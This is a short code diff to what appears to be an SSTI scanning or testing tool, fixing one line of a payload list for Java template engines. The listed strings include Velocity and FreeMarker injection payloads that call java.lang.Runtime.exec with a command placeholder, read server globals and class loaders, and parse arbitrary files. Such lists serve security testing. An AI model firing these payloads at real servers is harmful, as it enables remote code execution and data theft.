@@ -41,7 +41,7 @@ export const javaEngines = templateGenerator({
       '${l}{letters}?api.class.protectionDomain.codeSource{r}',
       '<#attempt><#assign x=.globals>${l}x?keys?join(","){r}<#recover></#attempt>',
       '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))$rt.getRuntime().exec("{command}")',
-      '#set({l}$x={r}"").class.forName("java.lang.Runtime")',
+      '#set($x="")$x.class.forName("java.lang.Runtime")',
       '$!{l}request.class.classLoader{r}',
       '#evaluate("#set(\\$x=1)")',
       '#parse("{file}")',
